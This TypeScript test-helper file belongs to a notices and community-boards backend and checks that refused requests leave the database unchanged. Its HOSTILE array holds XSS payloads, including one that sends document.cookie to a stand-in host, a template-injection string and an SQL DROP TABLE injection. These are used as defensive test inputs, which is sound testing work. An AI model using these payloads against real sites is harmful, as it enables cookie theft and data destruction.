import { sql } from 'kysely';
import { expect } from 'vitest';
import type { TestClient } from '../src/testing/index.ts';
import { dbState, type WithDb } from './helpers.ts';

/** Tables of the notices and boards modules. */
const TABLES = [
  'notice',
  'notice_read',
  'board_post',
  'board_comment',
  'board_like',
  'board_report',
  'board_word',
  'board_feed_seen',
  'board_follow',
];

/** Row counts and version sums of the board tables plus everything helpers.dbState counts. */
export async function boardState(t: WithDb): Promise<Record<string, number>> {
  const out: Record<string, number> = await dbState(t);
  for (const table of TABLES) {
    const r = await sql<{ n: string }>`SELECT count(*)::text AS n FROM ${sql.table(table)}`.execute(t.database.db);
    out[table] = Number(r.rows[0]!.n);
  }
  const v = await sql<{ n: string }>`SELECT coalesce(sum(version), 0)::text AS n FROM board_post`.execute(
    t.database.db,
  );
  out.post_versions = Number(v.rows[0]!.n);
  return out;
}

/** Runs a request that must be refused and checks no table (board tables included) changed. */
export async function refusedCleanly<T>(t: WithDb, fn: () => Promise<T>): Promise<T> {
  const before = await boardState(t);
  const out = await fn();
  expect(await boardState(t)).toEqual(before);
  return out;
}

export const HOSTILE = [
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
  '"><svg/onload=alert(1)>',
  "javascript:alert('x')",
  '{{constructor.constructor("alert(1)")()}}',
  "'; DROP TABLE notice; --",
];

export interface NoticeView {
  id: string;
  nodeId: string;
  nodeName: string;
  level: string;
  category: string;
  title: string;
  excerpt: string;
  body: string;
  pinned: boolean;
  mustRead: boolean;
  expired: boolean;
  withdrawn: boolean;
  unread: boolean;
  confirmed: boolean;
  attachments: string[];
  version: number;
  abilities: { edit: boolean; readRate: boolean; confirm: boolean };
}

export async function publish(c: TestClient, body: Record<string, unknown>): Promise<NoticeView> {
  const res = await c.post<NoticeView>('/api/notices', { category: 'notice', body: '内容', ...body });
  expect(res.status, res.text).toBe(201);
  return res.body;
}

export const noticeIds = async (c: TestClient, q = '') => {
  const res = await c.get<{ items: NoticeView[]; nextCursor: string | null }>(`/api/notices${q}`);
  expect(res.status, res.text).toBe(200);
  return res.body.items.map((n) => n.id);
};

export interface PostView {
  id: string;
  communityId: string;
  board: string;
  kind: string;
  title: string;
  body: string;
  authorLabel: string;
  status: string;
  stage: string;
  takerLabel: string | null;
  caseId: string | null;
  caseNo: string | null;
  heldWords: string[];
  moderationReason: string | null;
  thanks: string | null;
  likeCount: number;
  commentCount: number;
  reportCount: number;
  liked: boolean;
  following: boolean;
  version: number;
  attachments: string[];
  partyBadge: boolean;
  comments: { id: string; authorLabel: string; official: boolean; partyBadge: boolean; body: string; status: string }[];
  abilities: { edit: boolean; steps: string[]; comment: boolean; moderate: boolean; convert: boolean };
}

export async function post(c: TestClient, communityId: string, body: Record<string, unknown>): Promise<PostView> {
  const res = await c.post<PostView>(`/api/communities/${communityId}/posts`, {
    board: 'local',
    kind: 'matter',
    title: '标题',
    body: '内容',
    ...body,
  });
  expect(res.status, res.text).toBe(201);
  return res.body;
}
